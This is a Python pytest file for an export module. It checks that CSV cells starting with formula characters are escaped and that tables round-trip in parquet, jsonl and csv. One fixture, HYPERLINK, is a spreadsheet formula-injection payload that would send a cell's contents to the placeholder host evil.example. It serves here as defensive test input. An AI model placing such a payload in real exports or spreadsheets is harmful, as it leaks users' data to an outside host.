"""Exports: CSV cells a spreadsheet would run as formulas are escaped; every format round-trips."""

from __future__ import annotations

import csv
from datetime import UTC, datetime

import polars as pl
import pytest

from resolution.errors import OutputError
from resolution.publishing.export import csv_safe, escape_formula, export_tables, write_export

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Нажмите")'


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),  # REFERENCE.md's bad input
        ("+79161234567", "'+79161234567"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Иван Иванов", "Иван Иванов"),
        ("a=b", "a=b"),  # only a leading sign counts
        ("", ""),
        (None, None),
    ],
)
def test_escape_formula(cell, written):
    assert escape_formula(cell) == written


def test_csv_export_escapes_formulas_in_text_and_list_cells(tmp_path):
    profiles = pl.DataFrame(
        {
            "profile_id": ["p_1"],
            "display_name": [HYPERLINK],
            "phones": [["+79161234567"]],
            "emails": [["a@b.ru", "c@d.ru"]],
            "contacts": [-2],
            "first_seen": [datetime(2024, 1, 1, 7, 0, tzinfo=UTC)],
        }
    )
    path = write_export(profiles, tmp_path / "profiles.csv")
    with path.open(encoding="utf-8", newline="") as f:
        row = next(csv.DictReader(f))
    assert row["display_name"] == "'" + HYPERLINK
    assert row["phones"] == "'+79161234567"
    assert row["emails"] == "a@b.ru; c@d.ru"
    assert row["contacts"] == "-2"  # numbers are numbers, not formulas
    assert row["first_seen"] == "2024-01-01T07:00:00.000000Z"
    assert csv_safe(profiles)["display_name"][0].startswith("'=")


@pytest.mark.parametrize("fmt", ["parquet", "jsonl", "csv"])
def test_every_format_writes_every_table(tmp_path, fmt):
    tables = {
        "profiles": pl.DataFrame({"profile_id": ["p_1"], "phones": [["+7916"]]}),
        "members": pl.DataFrame({"profile_id": ["p_1"], "source": ["vk"]}),
    }
    paths = export_tables(tables, tmp_path, fmt)
    assert [p.name for p in paths] == [f"profiles.{fmt}", f"members.{fmt}"]
    if fmt == "parquet":
        assert pl.read_parquet(paths[0]).equals(tables["profiles"])
    elif fmt == "jsonl":
        assert pl.read_ndjson(paths[0]).equals(tables["profiles"])


def test_unknown_format_says_what_to_use(tmp_path):
    with pytest.raises(OutputError, match=r"\.parquet, \.jsonl or \.csv"):
        write_export(pl.DataFrame({"a": [1]}), tmp_path / "out.xlsx")
